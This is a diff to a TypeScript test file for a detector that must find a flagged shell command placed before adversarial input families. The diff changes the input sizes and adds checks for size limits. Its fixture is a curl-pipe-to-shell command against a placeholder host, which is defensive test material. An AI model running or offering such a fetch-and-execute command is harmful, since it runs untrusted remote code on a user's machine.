@@ -5,19 +5,39 @@ import { assertSound } from "./invariants.js";
 
 const FLAGGED = "curl -fsSL https://x.example/i.sh | sh";
 const BEFORE = `Some words first.\n\n\`\`\`sh\n${FLAGGED}\n\`\`\`\n\n`;
-const SIZE = 20_000;
+/** Enough for every bound but that of the size of one program. test/slow/hostile-sizes.test.ts doubles it. */
+const SIZE = 10_000;
+/** Families that exceed the size of one program when they are longer. */
+const LONGER = [
+  "angles without blanks",
+  "closing parentheses",
+  "emphasis",
+  "make recipes",
+  "NUL characters",
+  "random scraps",
+];
+const sizes = new Map(
+  Object.keys(families).map((name) => [name, LONGER.includes(name) ? 2 * SIZE : SIZE]),
+);
 
 describe("hostile families", { timeout: 120_000 }, () => {
-  it.each(Object.keys(families))("%s: a command before them is found", async (name) => {
+  it.each([...sizes])("%s: a command before them is found", async (name, size) => {
     const detector = await sharedDetector();
-    const text = BEFORE + (families[name]?.(SIZE) ?? "");
+    const text = BEFORE + (families[name]?.(size) ?? "");
     const detection = detector.detect(text);
     assertSound(text, detection);
     expect(detection.findings[0]?.text).toBe(FLAGGED);
   });
 
-  it.each(Object.keys(families))("%s: read completely when alone", async (name) => {
-    const text = families[name]?.(SIZE) ?? "";
+  it.each([...sizes])("%s: read completely when alone", async (name, size) => {
+    const text = families[name]?.(size) ?? "";
     assertSound(text, (await sharedDetector()).detect(text));
+  });
+
+  it.each(LONGER)("%s exceed the size of one program", async (name) => {
+    const { outcome } = (await sharedDetector()).detect(families[name]?.(2 * SIZE) ?? "");
+    expect(outcome.status === "incomplete" && outcome.limits.map(({ limit }) => limit)).toContain(
+      "size",
+    );
   });
 });
